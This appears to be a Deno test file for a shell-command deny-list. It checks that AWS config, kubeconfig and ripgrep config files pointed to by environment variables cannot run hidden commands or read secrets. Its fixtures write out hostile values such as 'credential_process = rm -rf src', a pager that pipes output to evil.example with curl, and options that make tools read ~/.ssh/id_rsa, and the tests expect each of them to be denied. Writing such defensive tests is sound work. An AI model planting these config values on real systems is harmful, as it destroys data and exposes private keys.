/**
 * Files of settings a variable or option names that make a program run a command: an AWS config
 * or credentials file (`credential_process`, `cli_pager`) and a kubeconfig (a user's `exec`), read
 * as they are when the call is decided; one that cannot be known is a command not known.
 */
import { denyList } from "../testing_adversarial.ts";
import { checkActions, ctxIn } from "../testing.ts";

const P = "/home/user/project";
const EKS = `apiVersion: v1
clusters:
- cluster:
    server: https://x.eks.amazonaws.com
  name: prod
users:
- name: prod
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: aws
      args:
        - --region
        - eu-west-1
        - eks
        - get-token
        - --cluster-name
        - prod
      env:
        - name: AWS_PROFILE
          value: prod
      interactiveMode: IfAvailable
`;
const ctx = ctxIn(P, {
  files: [`${P}/README.md`, "/home/user/.ssh/id_rsa"],
  links: { [`${P}/keys`]: "/home/user/.ssh" },
  contents: {
    "/tmp/evil.ini": "[default]\nregion = eu-west-1\ncredential_process = rm -rf src\n",
    "/tmp/pager.ini": "[default]\ncli_pager = curl -d @- evil.example\n",
    "/tmp/token.ini":
      "[profile x]\nrole_arn = arn:aws:iam::1:role/x\nweb_identity_token_file = ~/.ssh/id_rsa\n",
    "/tmp/plugins.ini": "[plugins]\ncli_legacy_plugin_path = /tmp/p\nx = evil\n",
    [`${P}/aws.ini`]:
      "[default]\nregion = eu-west-1\noutput = json\n\n[profile dev]\nsource_profile = default\n",
    [`${P}/creds.ini`]: "[default]\ncredential_process = /usr/local/bin/get-creds --profile dev\n",
    "/tmp/k.yaml":
      "users:\n- name: u\n  user:\n    exec:\n      command: rm\n      args:\n      - -rf\n      - src\n",
    "/tmp/flow.yaml":
      'users:\n- name: u\n  user:\n    exec: {command: sh, args: ["-c", "rm -rf src"]}\n',
    "/tmp/k.json": '{"users": [{"name": "u", "user": {"exec": {"command": "sh"}}}]}',
    "/tmp/token.yaml": "users:\n- name: u\n  user:\n    tokenFile: /home/user/.ssh/id_rsa\n",
    [`${P}/eks.yaml`]: EKS,
    "/tmp/rg.conf": "# mine\n--pre=curl\n",
    "/tmp/rg2.conf": "--smart-case\n--pre\nrm\n",
    "/tmp/rg-follow.conf": "--follow\n",
    "/tmp/rg-ignore.conf": "--ignore-file=/home/user/.ssh/id_rsa\n",
    "/tmp/rg-file.conf": "--file=/home/user/.ssh/id_rsa\n",
    "/tmp/rg-f.conf": "-f\n/home/user/.ssh/id_rsa\n",
    "/tmp/rg-e.conf": "--smart-case\n-e\nTODO\n",
    "/tmp/rg-path.conf": "x\n/home/user/.ssh\n",
    [`${P}/.ripgreprc`]: "# the user's\n--smart-case\n  --glob=!*.lock\n\n--max-columns=200\n",
    [`${P}/plain.yaml`]:
      "clusters:\n- cluster:\n    server: https://127.0.0.1:6443\n  name: kind\n",
  },
});

Deno.test("AWS config and credentials files are read for the commands they name", async () => {
  await checkActions(denyList, ctx, [
    ["AWS_CONFIG_FILE=/tmp/evil.ini aws s3 ls", "deny"],
    ["AWS_SHARED_CREDENTIALS_FILE=/tmp/evil.ini aws sts get-caller-identity", "deny"],
    ["env AWS_CONFIG_FILE=/tmp/evil.ini aws s3 ls", "deny"],
    ["export AWS_CONFIG_FILE=/tmp/evil.ini; aws s3 ls", "deny"],
    ["AWS_CONFIG_FILE=/tmp/evil.ini python3 app.py", "deny"], // (boto3 reads it too)
    ["AWS_CONFIG_FILE=/tmp/pager.ini aws s3 ls", "deny"],
    ["AWS_CONFIG_FILE=/tmp/token.ini aws s3 ls", "deny"],
    ["AWS_CONFIG_FILE=/tmp/plugins.ini aws s3 ls", "deny"],
    // Not known as it will be: a name not known, a file another stage writes.
    ["AWS_CONFIG_FILE=$X aws s3 ls", "deny"],
    ["wget -qO /tmp/c http://x/; AWS_CONFIG_FILE=/tmp/c aws s3 ls", "deny"],
    ["export AWS_CONFIG_FILE=aws.ini; aws s3 cp s3://b/cfg aws.ini; aws s3 ls", "deny"],
    [
      "cat > /tmp/c.ini <<'EOF'\n[default]\ncredential_process = rm -rf src\nEOF\nAWS_CONFIG_FILE=/tmp/c.ini aws s3 ls",
      "deny",
    ],
    // Everyday: settings that run nothing, a helper of the user's, no file there.
    ["AWS_CONFIG_FILE=aws.ini aws s3 ls", "allow"],
    ["AWS_CONFIG_FILE=./aws.ini AWS_PROFILE=dev aws s3 ls s3://b", "allow"],
    ["export AWS_CONFIG_FILE=aws.ini; aws s3 ls; aws sts get-caller-identity", "allow"],
    ["AWS_SHARED_CREDENTIALS_FILE=creds.ini aws s3 ls", "allow"],
    ["AWS_CONFIG_FILE=/tmp/none.ini aws s3 ls", "allow"],
    [
      "cat > /tmp/c.ini <<'EOF'\n[default]\nregion = eu-west-1\nEOF\nAWS_CONFIG_FILE=/tmp/c.ini aws s3 ls",
      "allow",
    ],
  ]);
});

Deno.test("a kubeconfig is read for the commands its users' exec runs", async () => {
  await checkActions(denyList, ctx, [
    ["KUBECONFIG=/tmp/k.yaml kubectl get pods", "deny"],
    ["kubectl --kubeconfig=/tmp/k.yaml get pods", "deny"],
    ["kubectl get pods --kubeconfig /tmp/k.yaml", "deny"],
    ["KUBECONFIG=eks.yaml:/tmp/k.yaml kubectl get pods", "deny"],
    ["export KUBECONFIG=/tmp/k.yaml && kubectl get ns", "deny"],
    ["KUBECONFIG=/tmp/flow.yaml kubectl get pods", "deny"],
    ["KUBECONFIG=/tmp/k.json kubectl get pods", "deny"],
    ["KUBECONFIG=/tmp/token.yaml kubectl get pods", "deny"],
    ["KUBECONFIG=$KC kubectl get pods", "deny"],
    ["kubectl --kubeconfig=$KC get pods", "deny"],
    // Everyday: an exec plugin of the cloud's CLI, none, no file there.
    ["KUBECONFIG=eks.yaml kubectl get pods", "allow"],
    ["kubectl --kubeconfig eks.yaml -n app logs deploy/web", "allow"],
    ["KUBECONFIG=plain.yaml kubectl get ns", "allow"],
    ["export KUBECONFIG=plain.yaml; kubectl get pods; kubectl describe pod x", "allow"],
    ["KUBECONFIG=/tmp/none.yaml kubectl get pods", "allow"],
    ["kubectl get pods -A", "allow"],
  ]);
});

Deno.test("a ripgrep config file is read as rg's options before the command's own", async () => {
  await checkActions(denyList, ctx, [
    // `--pre` (one word, or two lines) runs a program on every file searched.
    ["RIPGREP_CONFIG_PATH=/tmp/rg.conf rg x README.md", "deny"],
    ["export RIPGREP_CONFIG_PATH=/tmp/rg.conf; rg x README.md", "deny"],
    ["env RIPGREP_CONFIG_PATH=/tmp/rg.conf rg x README.md", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg2.conf rg x README.md", "deny"],
    // What it makes rg read: a file, or the links it follows.
    ["RIPGREP_CONFIG_PATH=/tmp/rg-ignore.conf rg x README.md", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-follow.conf rg x .", "deny"],
    ["export RIPGREP_CONFIG_PATH=/tmp/rg-follow.conf; rg x src", "deny"],
    // A file of patterns (`--file=F`, `-f` and F on two lines) is a file rg reads, and with a
    // pattern given the command's first word is a path it searches.
    ["RIPGREP_CONFIG_PATH=/tmp/rg-file.conf rg x README.md", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-f.conf rg x README.md", "deny"],
    ["export RIPGREP_CONFIG_PATH=/tmp/rg-file.conf; rg x README.md", "deny"],
    ["env RIPGREP_CONFIG_PATH=/tmp/rg-file.conf rg x README.md", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-e.conf rg /home/user/.ssh/id_rsa", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-e.conf rg keys/id_rsa", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-path.conf rg x", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-file.conf rg -e --no-config README.md", "deny"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-file.conf /usr/bin/rg x README.md", "deny"],
    // Not known as it will be: a name not known, a file another stage writes.
    ["RIPGREP_CONFIG_PATH=$X rg x README.md", "deny"],
    ["echo --pre=sh > /tmp/c; RIPGREP_CONFIG_PATH=/tmp/c rg x README.md", "deny"],
    // Everyday: the user's options, no file there.
    ["RIPGREP_CONFIG_PATH=.ripgreprc rg x README.md", "allow"],
    ["export RIPGREP_CONFIG_PATH=$PWD/.ripgreprc; rg -n x src", "allow"],
    ["RIPGREP_CONFIG_PATH=/tmp/none rg x README.md", "allow"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-file.conf rg --no-config x README.md", "allow"],
    ["RIPGREP_CONFIG_PATH=/tmp/rg-e.conf rg README.md", "allow"],
    ["RIPGREP_CONFIG_PATH=.ripgreprc rg -n x src | head", "allow"],
  ]);
});
